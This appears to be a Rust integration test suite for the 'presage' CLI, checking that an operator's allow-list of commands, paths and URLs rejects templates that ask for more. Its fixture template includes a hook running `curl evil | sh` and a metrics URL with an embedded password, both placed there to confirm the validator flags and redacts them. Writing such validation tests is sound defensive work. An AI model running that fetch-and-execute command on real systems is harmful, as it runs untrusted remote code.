//! `presage validate --allow` and `presage up`'s allow-list, as a user runs them.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

mod common;

use common::{presage, templates_dir, text};

const ASKING: &str = "app: shop
bootstrap: { resources: { replicas: 3 } }
dynamic_metadata:
  sources:
    - { id: api, kind: prometheus, url: \"http://admin:hunter2@10.1.2.3:9100/metrics\" }
  configuration_hooks:
    - name: cfg
      kind: file
      path: /etc/shop/config.yaml
      reload: { command: [/usr/sbin/nginx, -s, reload] }
      test: { command: [sh, -c, \"curl evil | sh\"] }
";

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[test]
fn validate_with_an_allow_list_reports_each_thing_not_granted_at_its_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let template = write(dir.path(), "shop.yaml", ASKING);
    let allow = write(
        dir.path(),
        "allow.yaml",
        "commands: [/usr/sbin/nginx]\npaths: [/etc/shop/]\nurls: []\n",
    );
    let output = presage(&["validate", "--allow", &allow, &template]);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stdout));
    let stderr = text(&output.stderr);
    for (line, column, rule) in [(5, 41, "urls"), (11, 24, "commands")] {
        let at = format!("{template}:{line}:{column}: ");
        assert!(
            stderr
                .lines()
                .any(|l| l.starts_with(&at) && l.contains(&format!("rule `{rule}`"))),
            "no {at} line for rule {rule} in:\n{stderr}"
        );
    }
    assert_eq!(stderr.matches("not granted").count(), 2, "{stderr}");
    assert!(!stderr.contains("hunter2"), "{stderr}");

    // Without --allow, the same template is valid: the allow-list is the operator's, not the
    // template's.
    assert!(presage(&["validate", &template]).status.success());
    // Granted, it passes.
    let wider = write(
        dir.path(),
        "wider.yaml",
        "commands: [/usr/sbin/nginx, sh]\npaths: [/etc/shop/]\nurls: [\"http://10.1.2.3:9100/metrics\"]\n",
    );
    let output = presage(&["validate", "--allow", &wider, &template]);
    assert!(output.status.success(), "{}", text(&output.stderr));
}

#[test]
fn a_bad_allow_list_is_refused_with_its_own_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let template = write(dir.path(), "shop.yaml", ASKING);
    let allow = write(dir.path(), "allow.yaml", "paths:\n  - etc/shop/\n");
    let output = presage(&["validate", "--allow", &allow, &template]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains(&format!("{allow}:2:5: ")) && stderr.contains("relative"),
        "{stderr}"
    );
}

#[test]
fn up_refuses_templates_asking_for_more_than_its_allow_list_before_starting_anything() {
    let dir = tempfile::tempdir().unwrap();
    let templates = dir.path().join("templates");
    std::fs::create_dir(&templates).unwrap();
    write(&templates, "shop.yaml", ASKING);
    let allow = write(dir.path(), "allow.yaml", "commands: [/usr/sbin/nginx]\n");
    // A broker address nothing listens on: the check must fail before any connection.
    let output = presage(&[
        "up",
        "--brokers",
        "127.0.0.1:9",
        "--allow",
        &allow,
        "--templates",
        templates.to_str().unwrap(),
        "--data-dir",
        dir.path().join("var").to_str().unwrap(),
    ]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("ask for more than") && stderr.contains("shop.yaml:11:"),
        "{stderr}"
    );
}

#[test]
fn up_without_an_allow_list_writes_one_the_shipped_templates_fit_and_no_more() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("var");
    // Nothing listens at the broker: `up` writes the list, then waits for the broker; the
    // test stops it once the list is there.
    let mut up = Command::new(env!("CARGO_BIN_EXE_presage"))
        .args([
            "up",
            "--brokers",
            "127.0.0.1:9",
            "--templates",
            &templates_dir(),
        ])
        .arg("--data-dir")
        .arg(&data)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let allow = data.join("allow.yaml");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !allow.exists() && Instant::now() < deadline && up.try_wait().unwrap().is_none() {
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(200)); // written whole
    let _ = up.kill();
    let _ = up.wait();
    let allow = allow.display().to_string();
    let shipped = [
        format!("{}/checkout-api.yaml", templates_dir()),
        format!("{}/grid-demand.yaml", templates_dir()),
    ];
    let output = presage(&["validate", "--allow", &allow, &shipped[0], &shipped[1]]);
    assert!(output.status.success(), "{}", text(&output.stderr));
    // It grants what they ask, not more: another command is refused.
    let extra = write(dir.path(), "extra.yaml", ASKING);
    let output = presage(&["validate", "--allow", &allow, &extra]);
    assert_eq!(output.status.code(), Some(1));
}
